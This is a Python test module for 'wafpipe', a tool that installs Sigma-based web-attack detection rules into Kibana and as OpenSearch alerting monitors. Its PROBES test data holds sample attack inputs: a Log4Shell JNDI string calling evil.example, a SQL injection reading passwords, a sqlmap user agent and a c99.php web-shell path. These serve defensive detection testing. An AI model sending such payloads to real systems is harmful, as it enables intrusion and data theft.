"""``wafpipe elastic setup`` installs the detections as Kibana detection rules and OpenSearch alerting
monitors (the rules converted by pySigma's Elasticsearch and OpenSearch backends).

Where each part is tested, and why:

* Kibana: on the Kibana stand-in (``tests/servers/kibana.py`` with ``kibana_rules.py``); there is no
  real Kibana in the test suite.
* OpenSearch monitors: on the Elasticsearch stand-in's model of the alerting plugin
  (``ElasticsearchServer(alerting=True)``, ``tests/servers/os_alerting.py``), because the real node
  cannot load the plugin: ``org.opensearch.plugin:opensearch-alerting`` (and ``:alerting``)
  ``2.19.0.0:zip`` are not on Maven Central (only the job-scheduler zip is), and the node is a
  classpath launcher, not a distribution that ``opensearch-plugin install`` could extend.
* The real OpenSearch 2.19.6 node answers the two questions the stand-in cannot: what a cluster
  without the plugin says (setup must report it and go on), and whether the converted queries are
  queries OpenSearch runs, on our mappings, finding the events they are written for.

The command line runs as a user runs it (a subprocess), so the conversion, the glue and the
installation are all exercised. Nothing waits for time to pass.
"""

from __future__ import annotations

import io
import re
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.cluster.conftest import WafpipeRunner
from tests.servers.elasticsearch import ElasticsearchServer
from tests.servers.kibana import KibanaServer
from tests.servers.opensearch_node import OpenSearchNode
from wafpipe.detect import SHIPPED_RULES, Correlation, Rule, load_paths
from wafpipe.detect.export import LEVELS, PREFIX, TACTICS, export
from wafpipe.sinks.elasticsearch.assets.templates import INDEX_PATTERN

STANDIN = ("OpenSearch alerting on the stand-in (ElasticsearchServer(alerting=True)): the real node cannot "
           "load the alerting plugin, whose zip is not on Maven Central")
SUMMARY = re.compile(r"detection rules: (\d+) created, (\d+) updated, (\d+) unchanged, (\d+) skipped")

USER_RULE = """title: Probe for the admin console of our shop
id: 7d7c2a43-1b51-4b8e-9d0e-3f1f4d0f6a01
status: experimental
description: Someone asks for the shop's back office from the internet.
author: the shop's security team
logsource:
  category: webserver
detection:
  admin:
    cs-uri-stem|startswith: /shop-admin/
  condition: admin
falsepositives:
  - Our own staff outside the VPN.
level: medium
tags:
  - attack.initial-access
  - attack.t1133
"""
CASED_RULE = """title: Exact-case token in the query
id: 0c9d7e52-6a43-4c1e-8f2b-5a7d9e0b1c02
status: experimental
description: A token that only matters in this exact case.
logsource:
  category: webserver
detection:
  token:
    cs-uri-query|cased: 'Token=ABC'
  condition: token
level: low
"""
REGEX_RULE = """title: Numeric id probe
id: 5f2e8a11-3c7d-4b9a-a1e6-9d8c7b6a5f03
status: experimental
description: Long numbers in the id parameter.
logsource:
  category: webserver
detection:
  probe:
    cs-uri-query|re: 'id=[0-9]{12,}'
  condition: probe
level: low
"""


def write_config(path: Path, *, es: str | None = None, kibana: str | None = None, opensearch: str | None = None,
                 rules_dir: Path | None = None) -> Path:
    text = f'data_dir = "{path.parent / "data"}"\nsources = []\n'
    if es:
        text += f'[[sinks]]\ntype = "elasticsearch"\nhosts = ["{es}"]\n'
    if opensearch:
        text += f'[[sinks]]\ntype = "opensearch"\nhosts = ["{opensearch}"]\n'
    if kibana:
        text += f'[kibana]\nurl = "{kibana}"\n'
    if rules_dir:
        text += f'[detect]\nrules_dir = "{rules_dir}"\n'
    path.write_text(text)
    path.chmod(0o600)
    return path


def summaries(stdout: str) -> list[tuple[int, int, int, int]]:
    """(created, updated, unchanged, skipped) of each target, in the order setup printed them."""
    return [tuple(map(int, m.groups())) for m in SUMMARY.finditer(stdout)]  # type: ignore[misc]


def shipped() -> list[Any]:
    return load_paths([SHIPPED_RULES])


def expected_kibana_ids() -> set[str]:
    """The shipped rules Kibana can run: every rule that alerts on its own, and the correlations that
    count (ES|QL ``stats``); not the ordered, spike and new-value patterns."""
    return {PREFIX + d.id for d in shipped()
            if (isinstance(d, Rule) and d.standalone)
            or (isinstance(d, Correlation) and d.kind in ("event_count", "value_count"))}


@pytest.fixture
def es() -> Iterator[ElasticsearchServer]:
    with ElasticsearchServer(refresh_interval=0) as server:
        yield server


@pytest.fixture
def kibana() -> Iterator[KibanaServer]:
    with KibanaServer() as server:
        yield server


# ------------------------------------------------------------------------------------------ Kibana
def test_setup_installs_every_convertible_shipped_rule_into_kibana(
        tmp_path: Path, es: ElasticsearchServer, kibana: KibanaServer, wafpipe: WafpipeRunner) -> None:
    cfg = write_config(tmp_path / "wafpipe.toml", es=es.url, kibana=kibana.url)
    out = wafpipe("elastic", "setup", "-c", cfg).stdout
    installed = kibana.detection_rules()
    assert set(installed) == expected_kibana_ids(), out
    by_id = {d.id: d for d in shipped()}
    for rule_id, rule in installed.items():
        d = by_id[rule_id.removeprefix(PREFIX)]
        assert rule["name"] == d.title and rule["description"].strip() == d.description.strip()
        severity, risk, _ = LEVELS[d.level]
        assert (rule["severity"], rule["risk_score"]) == (severity, risk), rule_id
        assert rule["false_positives"] == list(d.falsepositives) and rule["references"] == list(d.references)
        assert "wafpipe" in rule["tags"] and set(d.tags) <= set(rule["tags"]), rule["tags"]
        tactics = {t.removeprefix("attack.") for t in d.tags} & set(TACTICS)
        assert {t["tactic"]["id"] for t in rule["threat"]} == {TACTICS[t][0] for t in tactics}, rule_id
        assert rule["enabled"] is True and rule["from"] == "now-50m" and rule["interval"] == "5m"
        if isinstance(d, Correlation):  # ES|QL names its source in the query and has no index field
            assert (rule["type"], rule["language"]) == ("esql", "esql") and "index" not in rule
            assert rule["query"].startswith(f"from {INDEX_PATTERN} ") and "| stats " in rule["query"]
            assert all(f in rule["query"] for f in d.group_by), (d.group_by, rule["query"])
        else:
            assert (rule["type"], rule["language"], rule["index"]) == ("query", "lucene", [INDEX_PATTERN])
        # the taxonomy pipeline ran: ECS names only, never Sigma's web names
        assert not re.search(r"\b(cs|sc|c|s)-[a-z-]+\b", rule["query"]), rule["query"]
    threat = installed[PREFIX + "93f7f0b9-1eeb-427f-893d-6e0762252384"]["threat"]  # Log4Shell
    assert threat == [{"framework": "MITRE ATT&CK",
                       "tactic": {"id": "TA0001", "name": "Initial Access",
                                  "reference": "https://attack.mitre.org/tactics/TA0001/"},
                       "technique": [{"id": "T1190", "name": "Exploit Public-Facing Application",
                                      "reference": "https://attack.mitre.org/techniques/T1190/",
                                      "subtechnique": []}]}]
    created, updated, unchanged, skipped = summaries(out)[0]
    assert (created, updated, unchanged) == (len(installed), 0, 0) and skipped == len(shipped()) - len(installed)
    for d in shipped():  # every rule not installed is listed with its reason
        if PREFIX + d.id not in installed:
            assert re.search(rf"  rule {d.id} \(.*\): skipped: \S", out), d.title


def test_a_second_setup_leaves_one_copy_and_keeps_what_people_changed(
        tmp_path: Path, es: ElasticsearchServer, kibana: KibanaServer, wafpipe: WafpipeRunner) -> None:
    cfg = write_config(tmp_path / "wafpipe.toml", es=es.url, kibana=kibana.url)
    wafpipe("elastic", "setup", "-c", cfg)
    first = kibana.detection_rules()
    out = wafpipe("elastic", "setup", "-c", cfg).stdout
    assert summaries(out)[0][:3] == (0, 0, len(first)), out
    again = kibana.detection_rules()
    assert again == first  # one copy each, not even a revision more
    # someone turns one rule off and edits another's query in Kibana
    sqli, xss = PREFIX + "e510e131-1d32-4c48-88e3-85c011319637", PREFIX + "d7a9abae-19cf-44b3-9116-eb3e1cf1beb1"
    for body in ({"rule_id": sqli, "enabled": False}, {"rule_id": xss, "query": "url.query:*script*"}):
        r = httpx.patch(f"{kibana.url}/api/detection_engine/rules", json=body, headers=kibana.headers())
        assert r.status_code == 200, r.text
    out = wafpipe("elastic", "setup", "-c", cfg).stdout
    assert summaries(out)[0][:3] == (0, 1, len(first) - 1), out
    assert re.search(rf"  rule {xss} \(.*\): updated", out)
    now = kibana.detection_rules()
    assert now[sqli]["enabled"] is False  # the switch is the user's
    assert now[xss]["query"] == first[xss]["query"] and now[xss]["id"] == first[xss]["id"]
    assert len(now) == len(first)


def test_user_rules_are_installed_and_unconvertible_ones_listed(
        tmp_path: Path, es: ElasticsearchServer, kibana: KibanaServer, wafpipe: WafpipeRunner) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "admin.yml").write_text(USER_RULE)
    (rules / "cased.yml").write_text(CASED_RULE)
    (rules / "regex.yml").write_text(REGEX_RULE)
    cfg = write_config(tmp_path / "wafpipe.toml", es=es.url, kibana=kibana.url, rules_dir=rules)
    out = wafpipe("elastic", "setup", "-c", cfg).stdout
    installed = kibana.detection_rules()
    mine = installed[PREFIX + "7d7c2a43-1b51-4b8e-9d0e-3f1f4d0f6a01"]
    assert mine["name"] == "Probe for the admin console of our shop" and mine["author"] == ["the shop's security team"]
    assert mine["query"] == r"url.path:\/shop\-admin\/*" and (mine["severity"], mine["risk_score"]) == ("medium", 47)
    assert mine["threat"][0]["technique"][0]["id"] == "T1133"
    assert set(installed) == expected_kibana_ids() | {PREFIX + "7d7c2a43-1b51-4b8e-9d0e-3f1f4d0f6a01"}
    assert re.search(r"  rule 0c9d7e52-6a43-4c1e-8f2b-5a7d9e0b1c02 \(Exact-case token in the query\): skipped: "
                     r"pySigma's Elasticsearch Lucene backend: Case-sensitive string matching is not supported", out)
    assert re.search(r"  rule 5f2e8a11-3c7d-4b9a-a1e6-9d8c7b6a5f03 \(Numeric id probe\): skipped: uses \|re: ", out)


def test_no_rules_leaves_kibana_rules_out(
        tmp_path: Path, es: ElasticsearchServer, kibana: KibanaServer, wafpipe: WafpipeRunner) -> None:
    cfg = write_config(tmp_path / "wafpipe.toml", es=es.url, kibana=kibana.url)
    out = wafpipe("elastic", "setup", "--no-rules", "-c", cfg).stdout
    assert kibana.detection_rules() == {} and "detection rules" not in out
    assert kibana.saved_objects("dashboard")  # the rest is installed as before


def test_dry_run_prints_the_rules_and_sends_nothing(
        tmp_path: Path, es: ElasticsearchServer, kibana: KibanaServer, wafpipe: WafpipeRunner) -> None:
    cfg = write_config(tmp_path / "wafpipe.toml", es=es.url, kibana=kibana.url, opensearch=es.url)
    out = wafpipe("elastic", "setup", "--dry-run", "-c", cfg).stdout
    assert out.count(f"POST {kibana.url}/api/detection_engine/rules\n") == len(expected_kibana_ids())
    assert out.count(f"POST {es.url}/_plugins/_alerting/monitors\n") == len(
        [d for d in shipped() if isinstance(d, Rule) and d.standalone])
    assert kibana.detection_rules() == {} and kibana.request_counts().get("detection_rules", 0) == 0


def test_kibana_standin_validates_rules_as_kibana_does(kibana: KibanaServer) -> None:
    url = f"{kibana.url}/api/detection_engine/rules"
    good = {"rule_id": "r1", "name": "n", "description": "d", "risk_score": 47, "severity": "medium",
            "type": "query", "language": "lucene", "query": "url.path:x", "index": ["logs-*"]}
    r = httpx.post(url, json=good, headers=kibana.headers(xsrf=False))
    assert r.status_code == 400 and r.json()["message"] == "Request must contain a kbn-xsrf header."
    for broken, word in (({**good, "risk_score": 101}, "risk_score"), ({**good, "severity": "severe"}, "severity"),
                         ({k: v for k, v in good.items() if k != "description"}, "description"),
                         ({**good, "type": "esql", "language": "lucene"}, "language"),
                         ({**good, "threat": [{"framework": "MITRE ATT&CK", "tactic": {"id": "TA0001"}}]}, "tactic")):
        r = httpx.post(url, json=broken, headers=kibana.headers())
        assert r.status_code == 400 and word in r.json()["message"], (broken, r.text)
    assert httpx.post(url, json=good, headers=kibana.headers()).status_code == 200
    r = httpx.post(url, json=good, headers=kibana.headers())
    assert r.status_code == 409 and r.json() == {"message": 'rule_id: "r1" already exists', "status_code": 409}
    r = httpx.get(url, params={"rule_id": "nope"}, headers=kibana.headers())
    assert r.json() == {"message": 'rule_id: "nope" not found', "status_code": 404}
    esql = {**good, "rule_id": "r2", "type": "esql", "language": "esql", "query": "from logs-* | limit 1"}
    stored = httpx.post(url, json=esql, headers=kibana.headers()).json()
    assert "index" not in stored and stored["revision"] == 0 and stored["immutable"] is False


# -------------------------------------------------------------------------------------- OpenSearch
def install_on_standin(cfg: Path) -> str:
    """Setup's monitor step (the command line's conversion, the sink's installer) against the
    stand-in: its templates are not OpenSearch's (no ``flat_object``), so not the whole command."""
    from wafpipe.cli.elastic import cluster_rules
    from wafpipe.config.root import load_config
    from wafpipe.sinks.elasticsearch.client import make_client
    from wafpipe.sinks.elasticsearch.rules import install_monitors
    from wafpipe.sinks.elasticsearch.setup import Setup

    config = load_config(cfg)
    out = io.StringIO()
    setup = Setup(out, dry_run=False)
    client = make_client(config.sinks[0])  # type: ignore[arg-type]
    try:
        install_monitors(setup, client, config.sinks[0].hosts[0], cluster_rules(config))  # type: ignore[union-attr]
    finally:
        client.close()
    assert setup.failures == 0, out.getvalue()
    return out.getvalue()


def test_opensearch_monitors_are_created_once_on_the_standin(tmp_path: Path) -> None:
    """OpenSearch alerting on the STAND-IN: the real node cannot load the alerting plugin (its zip is
    not on Maven Central; see the module docstring and tests/servers/os_alerting.py)."""
    with ElasticsearchServer(alerting=True, ism=True) as os_standin:
        cfg = write_config(tmp_path / "wafpipe.toml", opensearch=os_standin.url)
        out = install_on_standin(cfg)
        monitors = os_standin.monitors()
        alone = {PREFIX + d.id: d for d in shipped() if isinstance(d, Rule) and d.standalone}
        by_rule = {m["ui_metadata"]["wafpipe"]["rule_id"]: m for m in monitors.values()}
        assert set(by_rule) == set(alone), STANDIN
        for rule_id, monitor in by_rule.items():
            d = alone[rule_id]
            assert monitor["name"] == f"[wafpipe] {d.title}" and monitor["monitor_type"] == "query_level_monitor"
            search = monitor["inputs"][0]["search"]
            assert search["indices"] == [INDEX_PATTERN]
            window, query_string = search["query"]["query"]["bool"]["filter"]
            assert window["range"]["@timestamp"]["gte"] == "{{period_end}}||-50m"
            assert not re.search(r"\b(cs|sc|c|s)-[a-z-]+\b", query_string["query_string"]["query"])
            (trigger,) = monitor["triggers"]
            assert trigger["query_level_trigger"]["severity"] == LEVELS[d.level][2]
        assert summaries(out)[0] == (len(alone), 0, 0, len(shipped()) - len(alone)), out
        # someone switches a monitor off: the next setup changes nothing, and it stays off
        first_id = next(iter(monitors))
        put = f"{os_standin.url}/_plugins/_alerting/monitors/{first_id}"
        assert httpx.put(put, json={**monitors[first_id], "enabled": False}).status_code == 200
        out = install_on_standin(cfg)
        assert summaries(out)[0][:3] == (0, 0, len(alone)), out
        assert os_standin.monitors()[first_id]["enabled"] is False
        # someone edits it in OpenSearch Dashboards, which replaces ui_metadata (and our mark) with its
        # own: setup finds it by its name and puts our query back, in place, still switched off
        edited = {**os_standin.monitors()[first_id], "ui_metadata": {"search": {"searchType": "query"}},
                  "inputs": [{"search": {"indices": ["elsewhere-*"], "query": {"size": 0}}}]}
        assert httpx.put(put, json=edited).status_code == 200
        out = install_on_standin(cfg)
        assert summaries(out)[0][:3] == (0, 1, len(alone) - 1), out
        after = os_standin.monitors()
        assert set(after) == set(monitors)  # no second copy
        assert after[first_id]["enabled"] is False and after[first_id]["inputs"] == monitors[first_id]["inputs"]
        out = install_on_standin(cfg)
        assert summaries(out)[0][:3] == (0, 0, len(alone)), out


def test_the_real_node_without_alerting_is_reported_not_failed(
        tmp_path: Path, opensearch_node: OpenSearchNode, wafpipe: WafpipeRunner) -> None:
    """On the REAL OpenSearch 2.19.6 node, which has no alerting plugin: setup says so and succeeds."""
    cfg = write_config(tmp_path / "wafpipe.toml", opensearch=opensearch_node.url)
    out = wafpipe("elastic", "setup", "-c", cfg).stdout
    assert "alerting monitors: skipped: the cluster has no Alerting plugin" in out, out
    assert "FAILED" not in out


def _now_ms() -> int:
    return int(time.time() * 1000)


# one event per rule (keyword fields compare with their case: the values are lower-case, as the rules)
PROBES: dict[str, dict[str, Any]] = {
    "93f7f0b9-1eeb-427f-893d-6e0762252384": {"url": {"query": "q=${jndi:ldap://evil.example/a}"}},
    "e510e131-1d32-4c48-88e3-85c011319637": {"url": {"query": "id=1 union select password from users"}},
    "a534dfcc-d3e8-44cf-a8a9-4c551f75f09b": {"user_agent": {"original": "sqlmap/1.7.2#stable"}},
    "b0614c03-711a-4b23-89d8-aa9455b816e4": {"http": {"request": {"method": "PROPFIND"}}},
    "30192f49-1f59-486a-9f0c-4589e2b97bd4": {"rule": {"category": "SQL Injection"},
                                             "imperva": {"waf": {"action_class": "passed"}}},
    "1465d40e-0479-4bef-839e-c570b990d1e9": {"url": {"path": "/uploads/c99.php"}},
}
BENIGN = {"url": {"path": "/products/2", "query": "page=2&sort=price"}, "http": {"request": {"method": "GET"}},
          "user_agent": {"original": "Mozilla/5.0"}, "rule": {"category": "Normal"}}


def test_converted_queries_run_on_the_real_node_and_find_their_events(
        tmp_path: Path, opensearch_node: OpenSearchNode) -> None:
    """The queries of the monitors (the same Lucene as the Kibana rules) on the REAL node, on wafpipe's
    own mappings: each finds the event written for its rule and none finds a benign request."""
    from wafpipe.config.root import config_from_dict
    from wafpipe.sinks.elasticsearch.client import make_client
    from wafpipe.sinks.elasticsearch.setup import Setup, opensearch_steps

    detections = shipped()
    texts = [(Path(s).read_text(encoding="utf-8"), s) for s in sorted({d.source for d in detections})]
    monitors = {m["ui_metadata"]["wafpipe"]["sigma_id"]: m for m in
                export(detections, texts, index_pattern=INDEX_PATTERN).monitors}
    cfg = config_from_dict({"data_dir": str(tmp_path), "sources": [],
                            "sinks": [{"type": "opensearch", "hosts": [opensearch_node.url]}]},
                           file=None, base_dir=tmp_path)
    client = make_client(cfg.sinks[0])  # type: ignore[arg-type]
    try:
        setup = Setup(io.StringIO(), dry_run=False)  # the templates only: no rollover of other streams
        setup.cluster("opensearch", opensearch_node.url, client, opensearch_steps(cfg.sinks[0]))  # type: ignore[arg-type]
        assert setup.failures == 0
    finally:
        client.close()
    os_client = opensearch_node.client()
    stream = f"logs-imperva.waf-rules{uuid.uuid4().hex[:8]}"
    now = _now_ms()
    docs = {**{sigma_id: {"@timestamp": now - 60_000, **doc} for sigma_id, doc in PROBES.items()},
            "benign": {"@timestamp": now - 60_000, **BENIGN}}
    try:
        for doc_id, doc in docs.items():
            os_client.create(index=stream, id=doc_id, body=doc)
        os_client.indices.refresh(index=stream)
        for sigma_id, monitor in monitors.items():
            query = monitor["inputs"][0]["search"]["query"]
            rendered = _render(query, now)
            hits = {h["_id"] for h in os_client.search(index=stream, body={**rendered, "size": 10})["hits"]["hits"]}
            assert "benign" not in hits, monitor["name"]
            if sigma_id in PROBES:
                assert sigma_id in hits, (monitor["name"], rendered)
    finally:
        os_client.indices.delete_data_stream(name=stream, ignore=[404])


def _render(value: Any, period_end_ms: int) -> Any:
    """What the alerting plugin does to a monitor's query before it runs: ``{{period_end}}`` filled in."""
    if isinstance(value, dict):
        return {k: _render(v, period_end_ms) for k, v in value.items()}
    if isinstance(value, list):
        return [_render(v, period_end_ms) for v in value]
    return value.replace("{{period_end}}", str(period_end_ms)) if isinstance(value, str) else value
